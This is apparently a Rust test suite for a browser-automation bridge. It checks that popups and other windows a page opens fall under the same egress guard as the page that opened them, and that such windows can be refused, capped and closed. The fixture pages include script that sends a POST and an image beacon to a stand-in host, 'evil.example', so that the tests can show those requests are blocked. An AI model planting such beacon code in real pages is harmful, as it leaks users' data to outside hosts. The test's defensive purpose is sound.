//! Further pages of a container: they are under the judge of the first one before they run, and can be forbidden and closed.

use browser_signals::playwright::{BridgeError, Browser, ObservationTarget, PageEvent, Tab};
use browser_signals::{Container, EgressGuard};

use crate::support::{
    Open, PATIENCE, Server, events_with, launch, launch_by_playwright, ref_of, tab, text_with,
};

/// What a page does when its button is pressed, and the address of the page that opens.
const WAYS: [(&str, &str); 2] = [
    ("w = window.open('/popup')", "/popup"),
    ("w = window.open('http://pay.example:PORT/popup', 'named', 'width=300,height=300')", "pay.example"),
];

/// Ways without a link to the page that opens.
const UNLINKED: [&str; 3] = ["window.open('/popup', '_blank', 'noopener')", "link.click()", "sent.submit()"];

const PAGE: &str = r#"<!doctype html><title>Shop</title><a id=link href=/popup target=_blank>There</a>
<form id=sent action=/popup target=_blank></form><button onclick="WAY">Press</button>"#;

/// What the popup tries as it loads: to reach a site that is not of the task, in several ways.
const POPUP: &str = r#"<!doctype html><title>Offers</title><p>Offers of today<script>
fetch('http://evil.example:PORT/fetched', { method: 'POST', body: 'x' });
new Image().src = 'http://evil.example:PORT/image';
for (const name of ['WebSocket', 'RTCPeerConnection', 'SharedWorker']) document.body.append(' ' + name + '=' + typeof globalThis[name]);
</script>"#;

/// No request goes to a site outside of the task.
struct TaskOnly;

impl EgressGuard for TaskOnly {
    fn judge(&self, request: &browser_signals::OutgoingRequest<'_>) -> Result<(), browser_signals::Blocked> {
        match request.url.contains("//evil.example") {
            true => Err(browser_signals::Blocked::new("outside_task")),
            false => Ok(()),
        }
    }
}

async fn press(tab: &Tab) {
    let target = ref_of(&tab.read(&Open).await.expect("text").text, "\"Press\"");
    let seen = tab.observe(ObservationTarget::Element(&target)).await.expect("a snapshot");
    tab.click(&target, &seen).await.expect("pressed");
}

/// The page that opened, once there is one.
async fn opened(tab: &Tab) -> Tab {
    let began = std::time::Instant::now();
    loop {
        if let Some(page) = tab.take_opened().pop() {
            return page;
        }
        assert!(began.elapsed() < PATIENCE, "no page opened");
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
}

async fn shop(browser: &Browser, server: &Server, tier: Container, way: &str) -> Tab {
    server.page("shop.example", "/", &PAGE.replace("WAY", way));
    let tab = tab(browser, server, tier).await;
    tab.set_egress(std::sync::Arc::new(TaskOnly));
    tab.open(&server.url("shop.example", "/")).await.expect("the page opens");
    tab
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_page_that_opens_is_under_the_same_judge() {
    let server = Server::start();
    server.page("shop.example", "/popup", POPUP);
    server.page("pay.example", "/popup", POPUP);
    let browser = launch(&server).await;
    for (way, address) in WAYS {
        for tier in [Container::T0, Container::T2] {
            let tab = shop(&browser, &server, tier, way).await;
            tab.let_pages_open(true);
            press(&tab).await;
            let page = opened(&tab).await;
            let raised = tier != Container::T0;
            let last = if raised { "SharedWorker=undefined" } else { "SharedWorker=function" };
            let text = text_with(&page, last).await;
            assert!(text.contains("Offers of today") && text.contains(last), "{tier:?} {way}: {text}");
            let label = page.label().await.expect("a label");
            assert!(label.address.contains(address) && label.title == "Offers", "{label:?}");
            // The opener is still there, and its refs are its own.
            assert!(tab.read(&Open).await.expect("text").text.contains("\"Press\""));
            page.close_page().await.expect("closed");
            assert!(page.is_gone() && !tab.is_gone());
            press(&tab).await;
            opened(&tab).await.close_page().await.expect("closed again");
            tab.close().await;
        }
    }
    let to_evil =
        |all: &[crate::support::Received]| all.iter().filter(|it| it.host == "evil.example").count();
    // Without the user's data a container's requests for parts of a page go anywhere: the control.
    assert!(to_evil(&server.requests()) > 0);
    let before = to_evil(&server.requests());
    let tab = shop(&browser, &server, Container::T2, WAYS[0].0).await;
    tab.let_pages_open(true);
    press(&tab).await;
    let page = opened(&tab).await;
    let text = text_with(&page, "SharedWorker=").await;
    assert!(text.contains("WebSocket=undefined") && text.contains("RTCPeerConnection=undefined"), "{text}");
    page.wait(300).await;
    assert_eq!(to_evil(&server.requests()), before);
    browser.close().await;
}

/// A page without a link to its opener begins before the bridge could prepare it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_window_without_a_link_to_its_opener_is_closed_and_its_address_is_known() {
    let server = Server::start();
    server.page("shop.example", "/popup", POPUP);
    let browser = launch(&server).await;
    for way in UNLINKED {
        for tier in [Container::T0, Container::T2] {
            let tab = shop(&browser, &server, tier, way).await;
            tab.let_pages_open(true);
            press(&tab).await;
            let events = events_with(&tab, |all| all.contains(&PageEvent::PopupRefused)).await;
            assert!(events.contains(&PageEvent::PopupRefused), "{tier:?} {way}: {events:?}");
            let address = tab.take_refused_window().unwrap_or_default();
            assert!(address.contains("/popup"), "{tier:?} {way}: {address}");
            assert!(tab.take_opened().is_empty(), "{tier:?} {way}");
            tab.close().await;
        }
    }
    let asked = server.requests().into_iter().filter(|it| it.path == "/popup" || it.host == "evil.example");
    assert_eq!(asked.count(), 0, "a refused page asks for nothing");
    browser.close().await;
}

/// An empty window that its opener writes into runs nothing before it is judged, either.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_script_in_an_empty_window_is_judged() {
    let server = Server::start();
    let browser = launch(&server).await;
    let way = "w = window.open(''); w.eval(`document.title = typeof WebSocket; fetch('http://evil.example:PORT/from-empty'); \
               new Image().src = 'http://evil.example:PORT/from-empty'`); fetch('/on')";
    for (tier, sockets) in [(Container::T0, "function"), (Container::T2, "undefined")] {
        let tab = shop(&browser, &server, tier, way).await;
        tab.let_pages_open(true);
        press(&tab).await;
        let page = opened(&tab).await;
        server.requests_with(|all| all.iter().any(|it| it.path == "/on")).await;
        page.wait(300).await;
        assert_eq!(page.label().await.expect("a label").title, sockets);
        let reached = server.requests().iter().any(|it| it.path == "/from-empty");
        assert_eq!(reached, tier == Container::T0, "{tier:?}");
        tab.close().await;
        if tier == Container::T0 {
            server.forget();
        }
    }
    browser.close().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pages_are_opened_counted_forbidden_and_closed() {
    let server = Server::start();
    server.page("shop.example", "/popup", "<title>Offers</title><p>Offers<button>Press</button>");
    let browser = launch(&server).await;
    let first = shop(&browser, &server, Container::T2, "w = window.open('/popup')").await;
    assert_eq!(first.another().await.err(), Some(BridgeError::NotApplicable));
    first.let_pages_open(true);
    let mut further = Vec::new();
    for _ in 0..7 {
        further.push(first.another().await.expect("a page"));
    }
    assert_eq!(first.another().await.err(), Some(BridgeError::NotApplicable));
    press(&first).await;
    first.wait(300).await;
    assert!(first.take_opened().is_empty(), "eight pages are enough");
    let last = further.pop().expect("a page");
    last.open(&server.url("shop.example", "/popup")).await.expect("the page opens");
    assert!(last.read(&Open).await.expect("text").text.contains("Offers"));
    let outside = last.open(&server.url("evil.example", "/")).await;
    assert!(matches!(outside, Err(BridgeError::Refused(_))), "{outside:?}");
    for page in further {
        page.close_page().await.expect("closed");
    }
    // The first page may close before others: the container goes on.
    first.close_page().await.expect("closed");
    assert!(last.read(&Open).await.expect("text").text.contains("Offers"));
    last.let_pages_open(false);
    assert_eq!(last.another().await.err(), Some(BridgeError::NotApplicable));
    press(&last).await;
    browser.close().await;
    assert!(last.is_gone());
}

/// A page that opens windows without end has none left once they are forbidden.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_page_begins_once_they_are_forbidden() {
    let server = Server::start();
    server.page("shop.example", "/popup", "<title>Offers</title><p>Offers");
    let browser = launch(&server).await;
    let way =
        "setInterval(() => { const w = window.open('/popup'); setTimeout(() => w && w.close(), 15); }, 4)";
    for _ in 0..5 {
        let tab = shop(&browser, &server, Container::T2, way).await;
        tab.let_pages_open(true);
        press(&tab).await;
        tab.wait(60).await;
        tab.let_pages_open(false);
        for page in tab.take_opened() {
            page.close_page().await.expect("closed");
        }
        tab.wait(200).await;
        assert!(tab.take_opened().is_empty(), "a page began after they were forbidden");
        assert!(tab.read(&Open).await.expect("text").text.contains("\"Press\""));
        tab.close().await;
    }
    browser.close().await;
}

/// Playwright's server lets a page run before the bridge can judge what it sends: there no page opens.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn beside_playwright_no_page_opens() {
    let server = Server::start();
    server.page("shop.example", "/popup", POPUP);
    let browser = launch_by_playwright(&server).await;
    let tab = shop(&browser, &server, Container::T2, WAYS[0].0).await;
    tab.let_pages_open(true);
    assert_eq!(tab.another().await.err(), Some(BridgeError::NotApplicable));
    press(&tab).await;
    let events = events_with(&tab, |all| all.contains(&PageEvent::PopupRefused)).await;
    assert!(events.contains(&PageEvent::PopupRefused), "{events:?}");
    assert!(tab.take_opened().is_empty());
    assert!(!server.requests().iter().any(|it| it.path == "/popup"), "a refused page asks for nothing");
    browser.close().await;
}
